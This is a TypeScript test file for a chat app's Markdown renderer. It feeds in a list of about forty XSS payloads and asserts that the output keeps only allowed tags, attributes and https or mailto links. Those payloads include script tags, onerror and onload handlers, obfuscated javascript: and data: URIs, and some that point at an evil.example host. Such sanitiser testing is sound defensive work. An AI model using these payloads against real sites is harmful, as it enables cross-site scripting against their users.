import * as assert from 'node:assert/strict';
import { renderMarkdown, renderUncached } from '../../../src/chat/markdown';

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'strong',
  'em',
  'b',
  'i',
  's',
  'del',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'a',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);
const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = { a: ['href', 'title', 'rel'], ol: ['start'], th: ['align'], td: ['align'] };

function decodeEntities(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(
      /&(amp|lt|gt|quot|apos|colon|tab|newline);/gi,
      (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n' })[name.toLowerCase()] ?? '',
    );
}

/**
 * Checks sanitised HTML the way a browser would read it: every tag is allowed, every attribute
 * is allowed for its tag, there is no event handler, and every href is https: or mailto: once
 * entities and the characters browsers skip are taken out.
 */
function assertSafe(html: string, payload: string): void {
  const where = `for ${JSON.stringify(payload)}: ${html}`;
  // No text outside a tag can open one: any "<" left is the start of an allowed tag.
  for (const match of html.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
    const [, tag, rest] = match;
    assert.ok(ALLOWED_TAGS.has(tag), `tag <${tag}> ${where}`);
    const attributes = [...rest.matchAll(/\s([^\s=]+)(?:="([^"]*)")?/g)];
    // Everything in the tag is a well-formed attribute (nothing smuggled between them).
    assert.equal(
      rest
        .replace(/\s([^\s=]+)(?:="([^"]*)")?/g, '')
        .trim()
        .replace(/^\/$/, ''),
      '',
      `stray text in <${tag}> ${where}`,
    );
    for (const [, name, value = ''] of attributes) {
      assert.ok((ALLOWED_ATTRIBUTES[tag] ?? []).includes(name), `attribute ${name} on <${tag}> ${where}`);
      assert.doesNotMatch(name, /^on/i, `event handler ${where}`);
      if (name === 'href') {
        const url = decodeEntities(value)
          // eslint-disable-next-line no-control-regex
          .replace(/[\u0000-\u0020\u007f-\u009f]/g, '')
          .toLowerCase();
        assert.match(url, /^(https:|mailto:)/, `href ${JSON.stringify(value)} ${where}`);
      }
    }
  }
  // A "<" that is not a tag would be one the parser above skipped.
  assert.equal(html.replace(/<\/?([^\s>/]+)([^>]*)>/g, '').includes('<'), false, `loose "<" ${where}`);
}

const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[click](&#x6A;avascript&colon;alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://example.com/a.png)',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name=x></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{display:none}</style>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '<a href=" javascript:alert(1)">x</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<!--<script>alert(1)</script>-->',
  '<details open ontoggle=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '`<script>alert(1)</script>`',
  '```\n<script>alert(1)</script>\n```',
  '> <img src=x onerror=alert(1)>',
  '* [x](javascript:alert(1))\n* <b onclick=alert(1)>y</b>',
  'https://ok.example/<script>alert(1)</script>',
  '[x](//evil.example/path)',
  '[x](http://plain.example)',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '[a](<javascript:alert(1)>)',
];

describe('chat/markdown', () => {
  for (const payload of XSS_PAYLOADS) {
    it(`renders XSS payload ${JSON.stringify(payload).slice(0, 70)} harmlessly`, () => {
      const html = renderMarkdown(payload);
      assertSafe(html, payload);
      assert.doesNotMatch(html, /<(script|svg|iframe|img|style|form|object|math|input|base|meta|details)\b/i);
    });
  }

  it('renders the Markdown a bot sends: emphasis, lists, code, https and mailto links', () => {
    assert.equal(renderMarkdown('**Hot** and *iced*'), '<p><strong>Hot</strong> and <em>iced</em></p>');
    assert.equal(renderMarkdown('- latte\n- mocha'), '<ul>\n<li>latte</li>\n<li>mocha</li>\n</ul>');
    assert.equal(renderMarkdown('Use `npm test`'), '<p>Use <code>npm test</code></p>');
    assert.equal(renderMarkdown('[menu](https://coffee.example/menu)'), '<p><a href="https://coffee.example/menu" rel="noopener noreferrer">menu</a></p>');
    assert.equal(renderMarkdown('[mail us](mailto:hi@coffee.example)'), '<p><a href="mailto:hi@coffee.example" rel="noopener noreferrer">mail us</a></p>');
    assert.equal(renderMarkdown('line one\nline two'), '<p>line one<br />\nline two</p>');
  });

  it('shows HTML in the text as text, and images as their alt text', () => {
    assert.equal(renderMarkdown('<b>bold?</b>'), '<p>&lt;b&gt;bold?&lt;/b&gt;</p>');
    assert.equal(renderMarkdown('![a cup](https://coffee.example/cup.png)'), '<p>a cup</p>');
  });

  it('gives the same HTML from its cache as rendering afresh', () => {
    for (const text of ['**again**', '**again**', '[x](javascript:alert(1))', '<script>alert(1)</script>', '**again**']) {
      assert.equal(renderMarkdown(text), renderUncached(text));
    }
  });

  it('keeps the text of links it refuses, without the link', () => {
    assert.equal(renderMarkdown('[plain](http://plain.example)'), '<p><a rel="noopener noreferrer">plain</a></p>');
    assert.match(renderMarkdown('[x](javascript:alert(1))'), /^<p>\[x\]\(javascript:alert\(1\)\)<\/p>$/);
  });
});
